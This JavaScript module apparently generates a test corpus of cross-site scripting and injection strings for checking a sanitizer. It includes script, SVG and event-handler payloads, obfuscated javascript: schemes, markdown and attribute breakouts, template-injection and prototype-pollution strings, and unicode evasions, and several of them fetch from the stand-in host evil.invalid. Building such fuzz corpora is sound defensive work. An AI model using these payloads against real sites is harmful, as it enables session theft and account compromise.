// Texts that want to be more than text. Made of what could run, what could carry it, and what could
// hide it, so that nothing depends on somebody having thought of one exact string.
// Whatever runs sets `__xss`, opens a dialog, or asks evil.invalid for something.

const code = '__xss=1';
const evil = 'http://evil.invalid/x';

/** Elements that run something by themselves, or fetch something. */
const elements = [
  `<script>${code}</script>`,
  `<script src=${evil}.js></script>`,
  `<script type=module>${code}</script>`,
  `<SCRIPT>${code}</SCRIPT>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<script/x>${code}</script>`,
  `<script\n>${code}</script\n>`,
  `<script>/*</script><script>*/${code}</script>`,
  `<noscript><p title="</noscript><script>${code}</script>">`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<frameset onload=${code}>`,
  `<object data="javascript:${code}"></object>`,
  `<object data=${evil}></object>`,
  `<embed src="javascript:${code}">`,
  `<embed src=${evil}.swf>`,
  `<applet code=${evil}>`,
  `<base href="javascript:/">`,
  `<base href=${evil}>`,
  `<link rel=stylesheet href=${evil}.css>`,
  `<link rel=prefetch href=${evil}>`,
  `<link rel=import href=${evil}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<style>@import "${evil}.css";</style>`,
  `<style>*{background:url(${evil})}</style>`,
  `<style>*{x:expression(${code})}</style>`,
  `<img src=${evil}.png>`,
  `<img srcset="${evil}.png 1x">`,
  `<picture><source srcset=${evil}.png><img></picture>`,
  `<video poster=${evil}.png src=${evil}.mp4></video>`,
  `<audio src=${evil}.mp3 autoplay></audio>`,
  `<input type=image src=${evil}.png>`,
  `<body background=${evil}.png>`,
  `<table background=${evil}.png>`,
  `<form action="javascript:${code}"><button>go</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${code}">go</button>`,
  `<isindex action="javascript:${code}">`,
  `<math><a xlink:href="javascript:${code}">x</a></math>`,
  `<math><mtext><table><mglyph><style><img src onerror=${code}></style></mglyph></table></mtext></math>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href=${evil}.js /></svg>`,
  `<svg><image href=${evil}.png></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${code}"></foreignObject></svg>`,
  `<template><script>${code}</script></template>`,
  `<textarea></textarea><script>${code}</script>`,
  `<title></title><script>${code}</script>`,
  `<plaintext><script>${code}</script>`,
  `<xmp><script>${code}</script></xmp>`,
  `<!--><script>${code}</script>-->`,
  `<!--[if IE]><script>${code}</script><![endif]-->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `<?xml-stylesheet href="javascript:${code}"?>`,
  `<?php ${code} ?>`,
  `<dialog open onclose=${code}></dialog>`,
  `<portal src=${evil}>`,
  `<a href=# ping=${evil}>x</a>`,
  `<a href="javascript:${code}">x</a>`,
];

/** Handlers, on elements that fire them without anybody doing anything, or when touched. */
const handlers = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src=/logo.svg'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['body', 'onhashchange', ''],
  ['video', 'onerror', 'src=x'],
  ['video', 'onloadstart', 'src=/logo.svg'],
  ['audio', 'onerror', 'src=x'],
  ['details', 'ontoggle', 'open'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['div', 'onfocus', 'tabindex=0 autofocus'],
  ['marquee', 'onstart', ''],
  ['div', 'onmouseover', ''],
  ['div', 'onpointerenter', ''],
  ['div', 'onclick', ''],
  ['div', 'onanimationstart', 'style="animation:x 1ms"'],
  ['div', 'ontransitionend', 'style="transition:all 1ms"'],
  ['div', 'onscroll', ''],
  ['div', 'onbeforetoggle', 'popover'],
  ['object', 'onerror', 'data=x'],
  ['iframe', 'onload', ''],
  ['link', 'onload', 'rel=stylesheet href=/x.css'],
  ['style', 'onload', ''],
  ['script', 'onerror', 'src=/x.js'],
  ['animate', 'onbegin', 'attributeName=x dur=1s'],
  ['x', 'oncontentvisibilityautostatechange', 'style="content-visibility:auto;display:block"'],
];

/** Ways to write one such element so that a filter misses it. */
const spellings = [
  (tag, on, rest) => `<${tag} ${rest} ${on}=${code}>`,
  (tag, on, rest) => `<${tag.toUpperCase()} ${rest} ${on.toUpperCase()}="${code}">`,
  (tag, on, rest) => `<${tag}/${rest.replaceAll(' ', '/')}/${on}=${code}//`,
];

/** Addresses that are code, however they are written. */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'javascript\u200b:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript&#x3A;',
  'javascript%3A',
  'ｊａｖａｓｃｒｉｐｔ:',
  'javascript://%0a',
  'vbscript:',
  'data:text/html,<script>parent.',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
  'blob:',
  'filesystem:',
  'view-source:javascript:',
  'feed:javascript:',
];

/** Markdown that could make an address of them. */
const carriers = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `<${url}>`,
  (url) => `![x](${url})`,
  (url) => `[x]: ${url}\n\n[x]`,
];

const markdown = [
  `[<img src=x onerror=${code}>](http://x.invalid)`,
  `[x](http://x.invalid "onmouseover=${code}")`,
  `[x](http://x.invalid" onmouseover="${code})`,
  `[x](http://x.invalid' onmouseover='${code})`,
  `[x](http://x.invalid\\" onmouseover=${code})`,
  `![x](http://x.invalid/" onerror="${code})`,
  `![x" onerror="${code}](x)`,
  `![](${evil}.png)`,
  `[![](${evil}.png)](${evil})`,
  `http://x.invalid/"onmouseover="${code}`,
  `http://x.invalid/<script>${code}</script>`,
  `<http://x.invalid/"onmouseover="${code}>`,
  `www.x.invalid/"><script>${code}</script>`,
  `mailto:a@x.invalid?body=<script>${code}</script>`,
  `a"onmouseover="${code}@x.invalid`,
  `\`\`\`"><script>${code}</script>\nx\n\`\`\``,
  `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  `\`\`\`__proto__\n${code}\n\`\`\``,
  `\`\`\`constructor\n${code}\n\`\`\``,
  `\`\`\`js onload=${code}\nx\n\`\`\``,
  `\`<script>${code}</script>\``,
  `\`\`<img src=x onerror=${code}>\`\``,
  `    <script>${code}</script>`,
  `> <script>${code}</script>`,
  `> > - # <img src=x onerror=${code}>`,
  `# <svg onload=${code}>`,
  `* <svg onload=${code}>`,
  `1. <svg onload=${code}>`,
  `| <script>${code}</script> | b |\n|---|---|\n| <img src=x onerror=${code}> | [x](javascript:${code}) |`,
  `**<b onclick=${code}>x</b>**`,
  `~~<del onclick=${code}>~~`,
  `_[x](javascript:${code})_`,
  `[x][javascript:${code}]`,
  `[^1]\n\n[^1]: <script>${code}</script>`,
  `<div>\n\n[x](javascript:${code})\n\n</div>`,
  `<!-- -->\n<script>${code}</script>`,
  `\\<script>${code}\\</script>`,
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `&#60;script&#62;${code}&#60;/script&#62;`,
  `&amp;lt;script&amp;gt;${code}`,
  `[javascript:${code}](javascript:${code})`,
  `[x](javascript:window['__xss']=1)`,
  `[x](  javascript:${code}  )`,
  `[a](j\navascript:${code})`,
  `[x](\\javascript:${code})`,
  `[x](//evil.invalid)`,
  `[x](/api/v1/logout)`,
  `![x](/api/v1/logout)`,
];

/** What ends an attribute, a text, a comment or a script, wherever it may be put. */
const breakers = [
  `"><script>${code}</script>`,
  `'><script>${code}</script>`,
  `" onmouseover="${code}`,
  `' onmouseover='${code}`,
  `\` onmouseover=\`${code}`,
  `" autofocus onfocus="${code}`,
  `x" style="background:url(${evil})`,
  `--><script>${code}</script>`,
  `</title><script>${code}</script>`,
  `</textarea><script>${code}</script>`,
  `</style><script>${code}</script>`,
  `</script><script>${code}</script>`,
  `</p><script>${code}</script><p>`,
  `";${code};//`,
  `';${code};//`,
  `\\";${code};//`,
  `\`;${code};//`,
  `\u2028${code}\u2029`,
  `*/${code}/*`,
  `]]>${code}`,
  `%22%3E%3Cscript%3E${code}%3C/script%3E`,
  `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  `data:,${code}`,
];

/** Templates that some library or other would evaluate. */
const templates = [
  `{{constructor.constructor('${code}')()}}`,
  `{{${code}}}`,
  `{{{${code}}}}`,
  `\${${code}}`,
  `#{${code}}`,
  `<%= ${code} %>`,
  `{@html '<script>${code}</script>'}`,
  `{#if ${code}}{/if}`,
  `{${code}}`,
  `@(${code})`,
  `[[\${${code}}]]`,
  `{% raw %}<script>${code}</script>`,
  `*{${code}}`,
  `$x=${code}`,
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"__xss":1}}',
  '%s%n%x%d',
];

/** Unicode that turns into something else, or makes a text look like another. */
const unicode = [
  `＜script＞${code}＜/script＞`,
  `﹤script﹥${code}`,
  `‹script›${code}`,
  `<\u0000script>${code}</script>`,
  `<scr\u0000ipt>${code}</script>`,
  `<scr\u00adipt>${code}</scr\u00adipt>`,
  `<img\u000csrc=x\u000conerror=${code}>`,
  `<img\u00a0src=x onerror=${code}>`,
  `<img\u3000src=x onerror=${code}>`,
  `\ufeff<script>${code}</script>`,
  `\u202e<script>${code}</script>`,
  `\u2066<svg onload=${code}>\u2069`,
  `<ſcript>${code}</ſcript>`,
  `<ıframe src=x onload=${code}>`,
  `<İMG src=x onerror=${code}>`,
  `\ud83d\ude00<img src=x onerror=${code}>`,
  `a\u0301\u0301\u0301<img src=x onerror=${code}>`,
  `\u200d<img src=x onerror=${code}>\u200d`,
  `%C0%BCscript%C0%BE${code}`,
  `<a\u2028href="javascript:${code}">`,
];

function* all() {
  yield* elements;
  for (const handler of handlers) for (const spell of spellings) yield spell(...handler);
  for (const scheme of schemes) {
    const url = scheme + code;
    yield `<a href="${url}">x</a>`;
    yield url;
    for (const carry of carriers) yield carry(url);
  }
  yield* markdown;
  yield* breakers;
  yield* templates;
  yield* unicode;
}

/** Without the one character that no JSON text of ours may hold, and each once. */
export const corpus = [...new Set(all())];

/** As much of each as fits into a field of `length` characters. */
export function cut(length) {
  const fit = corpus.map((text) => [...text].slice(0, length).join(''));
  return [...new Set(fit)].filter((text) => text.trim() !== '');
}
